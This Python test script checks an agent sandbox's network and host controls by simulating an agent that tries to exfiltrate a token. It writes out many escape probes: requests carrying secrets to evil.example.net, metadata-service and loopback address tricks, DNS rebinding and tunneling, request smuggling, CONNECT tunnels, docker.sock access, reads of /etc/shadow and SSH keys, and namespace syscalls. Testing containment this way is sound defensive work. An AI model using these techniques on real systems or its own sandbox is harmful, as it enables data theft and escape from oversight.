"""
An agent in a sandbox that wants something out and tries all it has read of. Each try prints one JSON line: what came of it, what has to
come of it (a regular expression), and where it has to stand in the audit: [event type, rule, pattern of host or reason], or null where the
kernel refuses before anything could be recorded.

    exfiltrate.py ADDRESSES.json      the addresses to try, from the test
"""
import base64, ctypes, errno, gzip, json, os, re, socket, ssl, struct, subprocess, sys

WHERE = json.load(open(sys.argv[1]))
ALLOWED, OTHER, EVIL = "allowed.example.com", "other.example.com", "evil.example.net"
TOKEN = os.environ["TOKEN"]
REFUSED = r"ECONNREFUSED|ENETUNREACH|EHOSTUNREACH|EADDRNOTAVAIL"
FORBIDDEN = r"EPERM|EACCES|EAFNOSUPPORT|EPROTONOSUPPORT|ESOCKTNOSUPPORT|EROFS|ENOENT|ENXIO|EINVAL|ENOSYS"
EXCHANGE, DECISION = "egress.exchange", "egress.decision"


def attempt(name, act, expect, audit=None):
    try:
        outcome = str(act())
    except ssl.SSLError:
        outcome = "SSL"
    except OSError as error:
        outcome = errno.errorcode.get(error.errno, type(error).__name__) if error.errno else type(error).__name__
    except Exception as error:  # noqa: BLE001 - whatever it is, it is the outcome
        outcome = type(error).__name__
    print(json.dumps({"name": name, "outcome": outcome, "expect": expect, "audit": audit}), flush=True)


def dial(host, port, timeout=8):
    return socket.create_connection((host, port), timeout)


def read(sock):
    data = b""
    try:
        while True:
            chunk = sock.recv(65536)
            if not chunk:
                break
            data += chunk
    except OSError:
        pass
    return data


def judged(data):
    """status and rule of an answer"""
    if not data.startswith(b"HTTP/1.1 "):
        return "closed" if not data else "bytes " + repr(data[:40])
    head, _, body = data.partition(b"\r\n\r\n")
    rule = re.search(rb"x-agentkernel-denied: (\S+)", head, re.I)
    return head[9:12].decode() + (" " + rule.group(1).decode() if rule else " upstream")


def send(sock, text):
    with sock:
        sock.settimeout(8)
        sock.sendall(text if isinstance(text, bytes) else text.encode("latin1"))
        return judged(read(sock))


def context(alpn=None):
    made = ssl.create_default_context()
    made.check_hostname, made.verify_mode = False, ssl.CERT_NONE
    if alpn:
        made.set_alpn_protocols(alpn)
    return made


def tls(host, port=443, sni=None, ctx=None):
    return (ctx or context()).wrap_socket(dial(host, port), server_hostname=sni)


def get(host, path="/", extra="", method="GET", body=""):
    return "%s %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n%s\r\n%s" % (method, path, host, extra, body)


def bracketed(address):
    return "[%s]" % address if ":" in address else address


def curl(*args):
    done = subprocess.run(["curl", "-sk", "-m", "8", "-D", "-", *args], capture_output=True)
    if not done.stdout:
        return "curl %d" % done.returncode
    last = re.findall(rb"HTTP/[\d.]+ (\d{3})", done.stdout)[-1].decode()
    rule = re.findall(rb"x-agentkernel-denied: (\S+)", done.stdout, re.I)
    return last + (" " + rule[-1].decode() if rule else " upstream")


# --- what is allowed passes, so that the rest is refused for a reason
attempt("allowed http", lambda: send(dial(ALLOWED, 80), get(ALLOWED, "/control")), r"200 upstream", [EXCHANGE, r"egress\.rules\[0\]", ALLOWED])
attempt("allowed https", lambda: send(tls(ALLOWED, sni=ALLOWED), get(ALLOWED, "/control", "Authorization: Bearer %s\r\n" % TOKEN)), r"200 upstream", [EXCHANGE, r"egress\.rules\[0\]", ALLOWED])

# --- addresses, by HTTP, by TLS with and without a name, on other ports, in other spellings
for address in WHERE["v4"]:
    attempt("http to " + address, lambda: send(dial(address, 80), get(address)), r"403 default", [EXCHANGE, "default", re.escape(address)])
    attempt("https without a name to " + address, lambda: send(tls(address), get(address)), r"SSL|closed|ECONNRESET|Error", [DECISION, "default", r"without a name"])
    attempt("https with an allowed name to " + address, lambda: send(tls(address, sni=ALLOWED), get(ALLOWED)), r"421 identity", [EXCHANGE, "identity", re.escape(address) + "|" + ALLOWED])
    attempt("http with an allowed name to " + address, lambda: send(dial(address, 80), get(ALLOWED)), r"421 identity", [EXCHANGE, "identity", re.escape(address) + "|" + ALLOWED])
    for port in WHERE["closed_ports"]:
        attempt("tcp %s:%d" % (address, port), lambda: send(dial(address, port, 3), "exfiltrated\r\n"), REFUSED)
for address in WHERE["v6"]:
    for port in (80, 443, 22, 8080):
        attempt("tcp [%s]:%d" % (address, port), lambda: send(dial(address, port, 3), get(bracketed(address))), REFUSED)
for inner in WHERE["v4"]:
    def mapped():
        with socket.socket(socket.AF_INET6) as sock:
            sock.settimeout(8)
            sock.connect(("::ffff:" + inner, 80))
            return send(sock, get(inner))
    attempt("http to ::ffff:" + inner, mapped, r"403 default", [EXCHANGE, "default", re.escape(inner)])
for spelling in ("127.1", "2130706433", "0x7f.1", "0177.0.0.1", "2852039166", "0xa9fea9fe", "169.254.43518", "[::ffff:169.254.169.254]", "[::]", "127.0.0.1.", "0", "①②⑦.0.0.1"):
    attempt("Host: " + spelling, lambda: send(dial(ALLOWED, 80), get(spelling.encode().decode("latin1"))), r"4(?:00 protocol|21 identity)", [EXCHANGE, "protocol|identity", ALLOWED])
for spelling in ("127.1", "2130706433", "0x7f.1", "0177.0.0.1", "2852039166", "0xa9fea9fe"):
    attempt("connected to " + spelling, lambda: send(dial(spelling, 80), get(spelling)), r"400 protocol", [EXCHANGE, "protocol", r"\d"])
for name in ("localhost.", "127.0.0.1.nip.io", "169.254.169.254.nip.io", "metadata.google.internal", "host.docker.internal", "foo.localhost"):
    attempt("name " + name, lambda: send(dial(name, 80), get(name)), r"403 default|4\d\d|" + REFUSED, [EXCHANGE, "default|protocol|identity", r"."] if name != "localhost." and not name.endswith(".localhost") else None)

# --- names that rules allow and that lead where nobody may go
for name in ("meta", "alibaba", "lan", "own", "loop", "mapped", "nat64", "sixtofour", "ec2", "loop6"):
    host = name + ".example.com"
    attempt("http to " + host, lambda: send(dial(host, 80), get(host)), r"403 address", [EXCHANGE, "address", host])
    attempt("https to " + host, lambda: send(tls(host, sni=host), get(host)), r"403 address", [EXCHANGE, "address", host])
attempt("rebinding, first answer", lambda: send(dial("rebind.example.com", 80), get("rebind.example.com")), r"200 upstream", [EXCHANGE, r"egress\.rules\[\d+\]", "rebind"])
for again in range(3):
    attempt("rebinding, answer %d" % (again + 2), lambda: send(dial("rebind.example.com", 80), get("rebind.example.com")), r"403 address", [EXCHANGE, "address", "rebind"])
attempt("redirect, as it comes", lambda: send(dial("redirect.example.com", 80), get("redirect.example.com")), r"302 upstream", [EXCHANGE, r"egress\.rules\[\d+\]", "redirect"])
attempt("redirect, followed", lambda: curl("-L", "http://redirect.example.com/"), r"403 default", [EXCHANGE, "default", r"169\.254\.169\.254"])

# --- one connection, two names
attempt("Host of another", lambda: send(dial(ALLOWED, 80), get(EVIL)), r"421 identity", [EXCHANGE, "identity", ALLOWED])
attempt("SNI allowed, Host not", lambda: send(tls(ALLOWED, sni=ALLOWED), get(EVIL)), r"421 identity", [EXCHANGE, "identity", ALLOWED])
attempt("SNI not allowed, Host is", lambda: send(tls(ALLOWED, sni=EVIL), get(ALLOWED)), r"421 identity", [EXCHANGE, "identity", ALLOWED])
attempt("SNI of another allowed host", lambda: send(tls(ALLOWED, sni=OTHER), get(OTHER)), r"421 identity", [EXCHANGE, "identity", ALLOWED + "|" + OTHER])
attempt("second request of a connection", lambda: send(tls(ALLOWED, sni=ALLOWED), "GET /control HTTP/1.1\r\nHost: %s\r\n\r\n%s" % (ALLOWED, get(EVIL))), r"200 upstream", [EXCHANGE, "identity", ALLOWED])
attempt(":authority of another", lambda: curl("--http2", "-H", "Host: " + EVIL, "https://%s/" % ALLOWED), r"421 identity", [EXCHANGE, "identity", ALLOWED])
attempt(":authority through connect-to", lambda: curl("--http2", "--connect-to", "%s:443:%s:443" % (EVIL, ALLOWED), "https://%s/" % EVIL), r"421 identity", [EXCHANGE, "identity", ALLOWED])
attempt("DNS over HTTPS through an allowed host", lambda: send(tls(ALLOWED, sni=ALLOWED), get("dns.google", "/dns-query?dns=AAABAAABAAAAAAAA")), r"421 identity", [EXCHANGE, "identity", ALLOWED])
attempt("absolute target of another", lambda: send(dial(ALLOWED, 80), get(ALLOWED, "http://%s/" % EVIL)), r"421 identity", [EXCHANGE, "identity", ALLOWED])
attempt("absolute target with user information", lambda: send(dial(ALLOWED, 80), get(ALLOWED, "http://%s@%s/" % (ALLOWED, EVIL))), r"400 protocol", [EXCHANGE, "protocol", ALLOWED])
attempt("NUL in Host", lambda: send(dial(ALLOWED, 80), get(EVIL + "\0." + ALLOWED)), r"400 protocol", [DECISION, "protocol", r"malformed"])
attempt("two Hosts", lambda: send(dial(ALLOWED, 80), get(ALLOWED, extra="Host: %s\r\n" % EVIL)), r"400 protocol", [DECISION, "protocol", r"two Host"])
attempt("denied host", lambda: send(dial(EVIL, 80), get(EVIL, "/?data=secret")), r"403 default", [EXCHANGE, "default", EVIL])
attempt("suffix trick", lambda: send(dial("evil" + ALLOWED, 80), get("evil" + ALLOWED)), r"403 default", [EXCHANGE, "default", "evil" + ALLOWED])
attempt("below an allowed host", lambda: send(dial("data." + ALLOWED, 80), get("data." + ALLOWED)), r"403 default", [EXCHANGE, "default", "data." + ALLOWED])
attempt("TLS 1.1", lambda: subprocess.run(["curl", "-sk", "-m", "5", "--tls-max", "1.1", "--tlsv1.0", "--ciphers", "DEFAULT@SECLEVEL=0", "https://" + ALLOWED], capture_output=True).returncode, r"35|56|52", [DECISION, "protocol", r"below 1\.2"])
attempt("TLS without a name", lambda: send(tls(ALLOWED), get(ALLOWED)), r"SSL|closed|ECONNRESET|Error", [DECISION, "protocol", r"no name"])
attempt("plain HTTP on 443", lambda: send(dial(ALLOWED, 443), get(ALLOWED)), r"400 protocol", [DECISION, "protocol", r"not TLS"])
attempt("raw bytes on 80", lambda: send(dial(ALLOWED, 80), b"\x00\x01exfiltrated"), r"closed|ECONNRESET", [DECISION, "protocol", r"neither HTTP nor TLS"])
attempt("SSH on 443", lambda: send(dial(ALLOWED, 443), "SSH-2.0-x\r\n"), r"closed|ECONNRESET", [DECISION, "protocol", r"neither HTTP nor TLS"])

# --- tunnels
for target in (EVIL + ":443", "169.254.169.254:80", ALLOWED + ":22", "10.20.30.2:22"):
    attempt("CONNECT " + target, lambda: send(dial(ALLOWED, 80), "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target)), r"405 protocol", [DECISION, "protocol", r"CONNECT"])
    attempt("CONNECT in TLS " + target, lambda: send(tls(ALLOWED, sni=ALLOWED), "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, ALLOWED)), r"405 protocol", [DECISION, "protocol", r"CONNECT"])
for method in ("TRACE", "TRACK"):
    attempt(method, lambda: send(dial(ALLOWED, 80), get(ALLOWED, "/", "", method)), r"40[05] protocol", [None, "protocol", r"."])
attempt("h2c, known", lambda: curl("--http2-prior-knowledge", "http://%s/" % ALLOWED), r"curl \d+", [DECISION, "protocol", r"without TLS"])
attempt("h2c, upgraded", lambda: curl("--http2", "http://%s/" % ALLOWED), r"400 protocol", [DECISION, "protocol", r"upgrade"])
attempt("another upgrade", lambda: send(dial(ALLOWED, 80), get(ALLOWED, "/", "Connection: Upgrade\r\nUpgrade: tcp\r\n")), r"400 protocol", [DECISION, "protocol", r"upgrade"])
SOCKET = "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n"
attempt("WebSocket to a denied host", lambda: send(tls(EVIL, sni=EVIL), get(EVIL, "/", SOCKET).replace("Connection: close\r\n", "")), r"403 default", [EXCHANGE, "default", EVIL])
attempt("WebSocket to a metadata service", lambda: send(dial("169.254.169.254", 80), get("169.254.169.254", "/", SOCKET).replace("Connection: close\r\n", "")), r"403 default", [EXCHANGE, "default", r"169\.254"])
SMUGGLED = get(EVIL, "/smuggled")
for name, head in (("CL and TE", "Content-Length: %d\r\nTransfer-Encoding: chunked\r\n" % (len(SMUGGLED) + 5)), ("TE of two", "Transfer-Encoding: chunked, identity\r\n"), ("space before the colon", "Transfer-Encoding : chunked\r\n"), ("two lengths", "Content-Length: 0\r\nContent-Length: 9\r\n"), ("folded", "X: a\r\n Transfer-Encoding: chunked\r\n"), ("bare LF", "X: a\nTransfer-Encoding: chunked\r\n")):
    attempt("smuggling, " + name, lambda: send(dial(ALLOWED, 80), "POST / HTTP/1.1\r\nHost: %s\r\n%s\r\n0\r\n\r\n%s" % (ALLOWED, head, SMUGGLED)), r"400 protocol", [DECISION, "protocol", r"."])
for path in ("//evil.example.net/", "/a/../b", "/%2e%2e/x", "/a\\b"):
    attempt("path " + path, lambda: send(dial(ALLOWED, 80), get(ALLOWED, path)), r"403 path", [EXCHANGE, "path", ALLOWED])
for proxy in ("http://10.20.30.2:3128", "socks5h://10.20.30.2:1080", "http://127.0.0.1:3128"):
    attempt("proxy " + proxy, lambda: curl("-x", proxy, "http://%s/" % EVIL), r"curl \d+")
attempt("an allowed host as a proxy", lambda: curl("-x", "http://%s:80" % ALLOWED, "http://%s/" % EVIL), r"421 identity", [EXCHANGE, "identity", ALLOWED])

# --- names as carriers
def query(name, kind=1, flags=0x0100, klass=1):
    labels = b"".join(bytes([len(part)]) + part.encode("latin1") for part in name.split("."))
    return struct.pack("!HHHHHH", 7, flags, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", kind, klass)


def ask(message, server="127.0.0.1"):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(3)
        sock.connect((server, 53))
        sock.send(message)
        return "rcode %d, %d answers" % (sock.recv(4096)[3] & 15, 0)


def ask_tcp(message, server):
    with dial(server, 53) as sock:
        sock.settimeout(3)
        sock.sendall(struct.pack("!H", len(message)) + message)
        answer = read(sock) if len(message) > 4096 else sock.recv(4096)
        return "rcode %d" % (answer[5] & 15) if len(answer) > 5 else "closed"


for n in range(20):
    attempt("data in a name, %d" % n, lambda: ask(query("%s%d.tunnel.example.net" % ("d" * 50, n))), r"rcode 0", [DECISION, "default", r"tunnel\.example\.net|No rule"])
for kind, name in ((16, "TXT"), (10, "NULL"), (5, "CNAME"), (15, "MX"), (252, "AXFR"), (255, "ANY"), (33, "SRV"), (12, "PTR")):
    attempt("DNS type " + name, lambda: ask(query("data.tunnel.example.net", kind)), r"rcode 5", [DECISION, "protocol", r"DNS type %d" % kind])
attempt("DNS class", lambda: ask(query("data.tunnel.example.net", 16, 0x0100, 3)), r"rcode 5", [DECISION, "protocol", r"Internet"])
attempt("DNS update", lambda: ask(query("data.tunnel.example.net", 6, 0x2800)), r"rcode 4", [DECISION, "protocol", r"opcode"])
attempt("DNS over TCP", lambda: ask_tcp(query("data.tcp.example.net", 16), "8.8.8.8"), r"rcode 5", [DECISION, "protocol", r"DNS type 16"])
attempt("bytes over TCP 53", lambda: ask_tcp(b"x" * 5000, "8.8.8.8"), r"closed|ECONNRESET", [DECISION, "protocol", r"DNS message"])
attempt("DNS to a public server", lambda: ask(query("data.example.net"), "8.8.8.8"), REFUSED)

# --- other protocols
for address in WHERE["v4"]:
    for port in (53, 123, 443, 1194, 5353):
        def datagram():
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
                sock.settimeout(1)
                sock.connect((address, port))
                sock.send(b"exfiltrated")
                sock.send(b"exfiltrated")
                return sock.recv(100)
        if not (address.startswith("127.") and port == 53):
            attempt("udp %s:%d" % (address, port), datagram, REFUSED + "|TimeoutError|ETIMEDOUT|timeout")
for address in WHERE["v6"]:
    def datagram6():
        with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as sock:
            sock.settimeout(1)
            sock.connect((address, 443))
            sock.send(b"exfiltrated")
            sock.send(b"exfiltrated")
            return sock.recv(100)
    attempt("udp [%s]:443" % address, datagram6, REFUSED)
def opened(family, kind, protocol=0):
    socket.socket(family, kind, protocol).close()
    return "opened"
for name, family, kind, protocol in (("ICMP", socket.AF_INET, socket.SOCK_RAW, 1), ("ICMP datagrams", socket.AF_INET, socket.SOCK_DGRAM, 1), ("ICMPv6", socket.AF_INET6, socket.SOCK_RAW, 58), ("raw IP", socket.AF_INET, socket.SOCK_RAW, 255), ("SCTP", socket.AF_INET, socket.SOCK_STREAM, 132), ("packets", 17, socket.SOCK_RAW, 0), ("vsock", 40, socket.SOCK_STREAM, 0), ("AF_ALG", 38, socket.SOCK_SEQPACKET, 0), ("bluetooth", 31, socket.SOCK_RAW, 0), ("netlink generic", 16, socket.SOCK_RAW, 16)):
    attempt(name, lambda: opened(family, kind, protocol), FORBIDDEN)
def broadcast():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        return "sent %d" % sock.sendto(b"exfiltrated", ("255.255.255.255", 5353))
attempt("broadcast", broadcast, r"sent 11|" + REFUSED + "|" + FORBIDDEN)

# --- sockets and files of the host
def unix(path):
    with socket.socket(socket.AF_UNIX) as sock:
        sock.connect(path)
        return "connected"
for path in ("/var/run/docker.sock", "/run/dbus/system_bus_socket", "/run/containerd/containerd.sock", "/run/user/0/bus"):
    attempt("socket " + path, lambda: unix(path), FORBIDDEN)
attempt("abstract socket", lambda: unix("\0" + WHERE["abstract"]), REFUSED)
def contents(path):
    with open(path, "rb") as file:
        return "read %d" % len(file.read(64))
for path in ("/etc/shadow", "/proc/1/root/etc/shadow", "/proc/self/root/root/.ssh/id_rsa", "/proc/1/mem", "/proc/kcore", "/proc/keys", "/sys/kernel/debug", "/dev/mem", "/dev/kvm", "/dev/net/tun"):
    attempt("file " + path, lambda: contents(path), FORBIDDEN + ("|read 0" if path == "/proc/keys" else "|EISDIR|EIO"))
def written(path, text):
    with open(path, "w") as file:
        file.write(text)
    return "written"
for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/sys/net/ipv4/ip_forward", "/sys/fs/cgroup/cgroup.procs"):
    attempt("write " + path, lambda: written(path, "1"), FORBIDDEN)
def environments():
    found = 0
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            found += open("/proc/%s/environ" % pid, "rb").read().count(WHERE["host_secret"].encode())
        except OSError:
            pass
    return "found %d" % found
attempt("environments", environments, r"found 0")
libc = ctypes.CDLL(None, use_errno=True)
def call(name, *args):
    if getattr(libc, name)(*args) == 0:
        return "done"
    raise OSError(ctypes.get_errno(), name)
attempt("unshare", lambda: call("unshare", 0x10000000 | 0x40000000), FORBIDDEN)
attempt("setns", lambda: call("setns", os.open("/proc/1/ns/net", os.O_RDONLY), 0), FORBIDDEN)
attempt("mount", lambda: call("mount", b"proc", b"/tmp", b"proc", 0, None), FORBIDDEN)
attempt("ptrace", lambda: call("ptrace", 16, 1, 0, 0), FORBIDDEN)

# --- the key, or what stands for it, where it does not belong
SECRET = [EXCHANGE, "secret", r"."]
def https(host, **kind):
    return send(tls(host, sni=host), get(host, **kind))
attempt("placeholder to another host", lambda: https(OTHER, extra="Authorization: Bearer %s\r\n" % TOKEN), r"403 secret", [EXCHANGE, "secret", OTHER])
attempt("placeholder over plain http", lambda: send(dial(ALLOWED, 80), get(ALLOWED, extra="Authorization: Bearer %s\r\n" % TOKEN)), r"403 secret", [EXCHANGE, "secret", ALLOWED])
attempt("placeholder in the path", lambda: https(ALLOWED, path="/x/" + TOKEN), r"403 secret", SECRET)
attempt("placeholder in the query", lambda: https(ALLOWED, path="/x?data=" + TOKEN), r"403 secret", SECRET)
attempt("placeholder in a header", lambda: https(ALLOWED, extra="X-Data: %s\r\n" % TOKEN), r"403 secret", SECRET)
attempt("placeholder in a cookie", lambda: https(ALLOWED, extra="Cookie: a=%s\r\n" % TOKEN), r"403 secret", SECRET)
attempt("placeholder as a header's name", lambda: https(ALLOWED, extra="%s: 1\r\n" % TOKEN.replace("_", "-")), r"403 secret|200 upstream", [EXCHANGE, r"secret|egress\.rules\[0\]", ALLOWED])
for name, body, extra in (("body", TOKEN.encode(), ""), ("JSON body", json.dumps({"a": TOKEN}).encode(), "Content-Type: application/json\r\n"), ("gzip body", gzip.compress(TOKEN.encode()), "Content-Encoding: gzip\r\n"), ("base64 body", base64.b64encode(TOKEN.encode()), ""), ("file name", ('--b\r\nContent-Disposition: form-data; name="f"; filename="%s"\r\n\r\nx\r\n--b--\r\n' % TOKEN).encode(), "Content-Type: multipart/form-data; boundary=b\r\n")):
    head = get(ALLOWED, "/x", extra + "Content-Length: %d\r\n" % len(body), "POST").encode()
    attempt("placeholder in a " + name, lambda: send(tls(ALLOWED, sni=ALLOWED), head + body), r"403 secret" if "base64" not in name else r"403 secret|200 upstream", [EXCHANGE, "secret" if "base64" not in name else r"secret|egress\.rules\[0\]", ALLOWED])
attempt("what the key's place says", lambda: "real" if WHERE["host_secret"] in TOKEN else "placeholder", r"placeholder")
